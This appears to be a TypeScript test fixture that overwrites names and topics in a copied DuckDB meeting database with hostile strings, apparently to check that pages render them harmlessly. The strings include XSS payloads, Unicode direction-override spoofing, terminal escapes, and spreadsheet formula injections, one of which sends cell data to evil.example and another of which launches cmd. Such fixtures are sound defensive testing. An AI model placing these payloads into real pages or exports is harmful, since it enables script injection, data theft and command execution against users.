/** A store in which every topic, name and department is one that somebody chose to do harm, or that is hard to show. */

import { DuckDBInstance } from "@duckdb/node-api";

/** Each is the whole of some names; a page shows it letter by letter, and does nothing that it says. */
export const hostileNames: readonly string[] = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(2)">',
  '"><svg onload=alert(3)>',
  "javascript:alert(4)//'\"`;</style>",
  "\u202eمناقشة المشروع שלום\u202c <b>",
  "left open \u202efdp.exe",
  "𝓑𝓸𝓫 👩‍🔬 🇪🇺 🦊",
  "\u0007\u001b[31m\u200b\ufeff red",
  "W".repeat(300),
  "one long sentence of words ".repeat(12).trim(),
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-2;=1+1",
];

const list = `[${hostileNames.map((name) => `'${name.replaceAll("'", "''")}'`).join(", ")}]`;

/** The same value always becomes the same name: who had one name has one. */
const hostile = (column: string) =>
  `CASE WHEN ${column} IS NULL THEN NULL ELSE ${list}[1 + (hash(${column}) % ${hostileNames.length})::INTEGER] END`;

const host =
  `host = CASE WHEN host IS NULL THEN NULL ELSE ` +
  `struct_update(host, name := ${hostile("host.name")}, department := ${hostile("host.department")}) END`;
const topic = `topic = ${hostile("topic")}`;

const changes = [
  ...["meetings", "webinars"].map((events) => `UPDATE ${events} SET ${topic}, ${host}`),
  ...["sessions", "webinar_sessions"].map(
    (sessions) => `UPDATE ${sessions} SET ${topic}, ${host}, user_name = ${hostile("user_name")}`,
  ),
  ...["attendance", "webinar_attendance"].map(
    (people) =>
      `UPDATE ${people} SET ${topic}, ${host}, name = ${hostile("name")}, names = list_transform(names, n -> ${hostile("n")})`,
  ),
  `UPDATE series SET topic = ${hostile("topic")}`,
  `UPDATE users SET display_name = ${hostile("display_name")}, first_name = NULL, last_name = NULL, department = ${hostile("department")}`,
  `UPDATE groups SET name = ${hostile("name")}`,
];

/** Changes the file, which is a copy that nobody else uses. */
export async function makeHostile(file: string): Promise<void> {
  const instance = await DuckDBInstance.create(file);
  const connection = await instance.connect();
  try {
    for (const sql of changes) await connection.run(sql);
    await connection.run("CHECKPOINT");
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}
